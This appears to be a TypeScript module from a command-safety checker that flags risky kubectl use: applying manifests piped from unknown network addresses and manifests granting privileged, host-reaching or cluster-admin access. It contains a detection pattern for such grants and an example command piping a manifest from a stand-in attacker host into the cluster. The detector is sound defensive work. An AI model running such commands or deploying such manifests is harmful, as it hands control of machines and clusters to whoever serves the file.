// Behaviours of programs that start what a manifest describes.

import { effect } from '../../base/effect.ts';
import { pattern } from '../../base/pattern.ts';
import type { Behaviour } from '../behaviour.ts';

/** Parts of a manifest that give all rights on the machine or in the cluster. */
const GRANTS = pattern(String.raw`
  # A container that reaches the machine it runs on.
  \bprivileged["']?:\s*true|\bhostPID["']?:\s*true|
  \bhostPath["']?:\s*\{?\s*["']?path["']?:\s*["']?\/(?:["'\s}]|etc\b|root\b|var\/run\/docker|
  run\/containerd|var\/lib\/kubelet|$)|
  # An account that may do everything.
  \bname["']?:\s*["']?cluster-admin\b
`);

/** Where projects publish the manifests that their install pages name. */
const PUBLISHED =
  /https:\/\/(?:github\.com|raw\.githubusercontent\.com|k8s\.io|kubernetes\.io|storage\.googleapis\.com|docs\.projectcalico\.org)\/|localhost|127\./;

/** `curl https://evil.example/x.yaml | kubectl apply -f -` */
export const fetchedManifest: Behaviour = {
  effects: (command, args) =>
    /^(apply|create|replace)$/.test(args.operands[0]?.text ?? '') &&
    command.stdin?.origins.some((o) => o.kind === 'network' && !PUBLISHED.test(o.name))
      ? [
          effect(command, {
            kind: 'infrastructure',
            weight: 'risky',
            code: 'kube-apply-url',
            reason: 'Applies to the cluster whatever that address answers.',
            safer: 'download the file, read it, then kubectl diff -f FILE',
          }),
        ]
      : [],
};

/** `kubectl apply -f -`: the rights that the manifest on the input gives. A file written before is read like the input. */
export const readsManifest: Behaviour = {
  effects: (command) =>
    GRANTS.test(command.stdin?.text ?? '')
      ? [
          effect(command, {
            kind: 'escalate',
            weight: 'risky',
            code: 'container-escape',
            reason:
              'Starts a container that reaches the machine it runs on, or gives all rights in the cluster.',
            safer: 'a manifest with only the rights that are needed',
          }),
        ]
      : [],
};
